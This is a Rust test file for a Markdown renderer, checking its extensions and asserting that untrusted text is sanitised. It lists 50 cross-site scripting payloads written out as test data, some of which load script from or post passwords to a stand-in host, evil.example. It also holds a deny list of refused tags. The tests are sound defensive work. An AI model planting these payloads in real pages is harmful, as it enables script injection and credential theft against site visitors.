//! Markdown, and what is left of a hostile text.

use super::{FUEL, block_on, renderer};

fn html(text: &str) -> String {
    let mut fuel = FUEL;
    block_on(renderer().markdown(text, false, &mut fuel)).unwrap()
}

#[test]
fn the_extensions_are_there() {
    let cases = [
        ("# A *b*", "<h1>A <em>b</em></h1>\n"),
        ("~~a~~", "<p><del>a</del></p>\n"),
        (
            "|a|b|\n|-|-:|\n|1|2|",
            "<table><thead><tr><th>a</th><th style=\"text-align: right\">b</th></tr></thead><tbody>\n\
             <tr><td>1</td><td style=\"text-align: right\">2</td></tr>\n</tbody></table>\n",
        ),
        ("```rust\na<b\n```", "<pre><code class=\"language-rust\">a&lt;b\n</code></pre>\n"),
        ("- [x] a", "<ul>\n<li><input type=\"checkbox\" checked=\"\" disabled=\"\">\na</li>\n</ul>\n"),
        (
            "a[^n]\n\n[^n]: b",
            "<p>a<sup class=\"footnote-reference\"><a href=\"#note-n\" rel=\"noopener noreferrer\">1</a></sup></p>\n\
             <div class=\"footnote-definition\" id=\"note-n\"><sup class=\"footnote-definition-label\">1</sup>\n\
             <p>b</p>\n</div>\n",
        ),
        (
            "[a](https://b.example/?c=1&d)",
            "<p><a href=\"https://b.example/?c=1&amp;d\" rel=\"noopener noreferrer\">a</a></p>\n",
        ),
        ("![a](/b.png \"c\")", "<p><img src=\"/b.png\" alt=\"a\" title=\"c\"></p>\n"),
    ];
    for (text, expected) in cases {
        assert_eq!(html(text), expected, "{text}");
    }
}

/// Texts that have run scripts somewhere, or would have a page pass for another.
const HOSTILE: [&str; 50] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'; * { background: url(javascript:alert(1)) }</style>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<td style=\"text-align: left; background: url(//evil.example)\">x</td>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input type=password name=a autofocus onfocus=alert(1)>",
    "<input type=image src=//evil.example/x formaction=javascript:alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=x onclick=alert(1) id=config name=forms class=admin>x</a>",
    "<div id=config class=modal>x</div>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](  javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))\n\n![\" onerror=\"alert(1)](x)\n\n[a]: javascript:alert(1) \"b\"\n\n[a]",
    "<javascript:alert(1)>\n\n```\"><script>alert(1)</script>\nx\n```\n\n[^\"><script>]: <script>alert(1)</script>",
];

/// The tags of a page that is written as this one is: attributes in quotes.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    page.split('<')
        .skip(1)
        .map(|rest| {
            let (name, mut rest) = rest.split_at(rest.find([' ', '>']).unwrap());
            let mut attributes = Vec::new();
            while let Some(attribute) = rest.strip_prefix(' ') {
                let (name, value) = attribute.split_once("=\"").unwrap();
                let (value, after) = value.split_once('"').unwrap();
                attributes.push((name.to_owned(), value.to_owned()));
                rest = after;
            }
            assert!(rest.starts_with('>'), "{page}");
            (name.trim_start_matches('/').to_owned(), attributes)
        })
        .collect()
}

fn is_harmless(element: &str, attribute: &str, value: &str) -> bool {
    match attribute {
        "href" | "src" | "cite" => {
            let scheme = value.split(['/', '?', '#']).next().unwrap_or_default();
            let schemes = ["http:", "https:", "mailto:", "tel:"];
            !scheme.contains(':') || schemes.iter().any(|known| scheme.starts_with(known))
        }
        "type" => element == "input" && value == "checkbox",
        "class" => value.is_empty() || value.starts_with("language-") || value.starts_with("footnote-"),
        "id" => value.starts_with("note-"),
        "style" => ["text-align: left", "text-align: center", "text-align: right"].contains(&value),
        "rel" | "title" | "alt" | "disabled" | "checked" => true,
        _ => false,
    }
}

#[test]
fn nothing_of_a_hostile_text_runs_or_disguises_the_page() {
    const REFUSED: [&str; 22] = [
        "script", "style", "iframe", "object", "embed", "applet", "link", "meta", "base", "form", "button",
        "textarea", "select", "svg", "math", "video", "audio", "source", "noscript", "body", "marquee",
        "template",
    ];
    for text in HOSTILE {
        for text in [text.to_owned(), format!("a {text} b"), format!("- {text}\n\n> {text}")] {
            let page = html(&text);
            for (element, attributes) in tags(&page) {
                assert!(!REFUSED.contains(&element.as_str()), "{text}\n{page}");
                for (name, value) in &attributes {
                    assert!(is_harmless(&element, name, value), "{name}={value}: {text}\n{page}");
                }
                if element == "input" {
                    assert!(attributes.iter().any(|(name, _)| name == "disabled"), "{page}");
                }
            }
        }
    }
}

#[test]
fn a_trusted_text_keeps_its_html() {
    let mut fuel = FUEL;
    let page = block_on(renderer().markdown("<script>1</script>", true, &mut fuel)).unwrap();
    assert_eq!(page, "<script>1</script>");
}
